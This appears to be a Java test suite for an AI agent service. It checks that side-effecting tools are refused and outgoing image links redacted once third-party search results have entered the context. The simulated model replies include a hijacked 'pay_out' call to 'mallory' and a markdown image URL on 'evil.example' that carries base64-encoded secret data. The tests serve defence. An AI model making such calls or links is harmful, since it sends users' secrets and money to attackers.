package dev.agentservice.endtoend;

import java.util.Map;

import dev.agentservice.simulator.responses.Act;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.RegisterExtension;

import static org.assertj.core.api.Assertions.assertThat;

/** What third parties write reaches a model at the provider before it reaches us. */
class ManagedSafetyTests {

	@RegisterExtension
	static final ManagedService service = ManagedService.shared();

	@Test
	void afterAHostedResultNothingIsChangedAndNothingIsCarriedAway() {
		service.responses()
			.next(Act.search(), Act.call("call_1", "pay_out", "{\"wallet\": \"mallory\"}"))
			.next(Act.say("See ![chart](https://evil.example/c.png?d=", "c2VjcmV0IG9mIGFkYQ) for more."));
		Client.Reply reply = service.ask("paying", "What is new?");
		assertThat(service.tools().paid).isEmpty();
		assertThat(reply.text("/answer")).as(reply.body()).doesNotContain("evil.example/").startsWith("See ");
		assertThat(reply.json().at("/notices").toString()).contains("side_effect_refused", "redacted_image");
		assertThat(service.responses().requests().get(1).path("input").toString()).contains("Refused: this tool");
	}

	@Test
	void theSessionRemembersIt() {
		service.responses().next(Act.search(), Act.say("News."));
		service.ada().ask(Map.of("task", "What is new?", "agent", "paying", "session_id", "news"));
		service.responses().next(Act.call("call_1", "pay_out", "{\"wallet\": \"mallory\"}")).next(Act.say("No."));
		service.ada().ask(Map.of("task", "Pay mallory.", "agent", "paying", "session_id", "news"));
		assertThat(service.tools().paid).isEmpty();
	}

	@Test
	void withoutAHostedResultTheToolIsCalled() {
		service.responses().next(Act.call("call_1", "pay_out", "{\"wallet\": \"bob\"}")).next(Act.say("Paid."));
		service.ask("paying", "Pay bob.");
		assertThat(service.tools().paid).containsExactly("bob");
	}

}
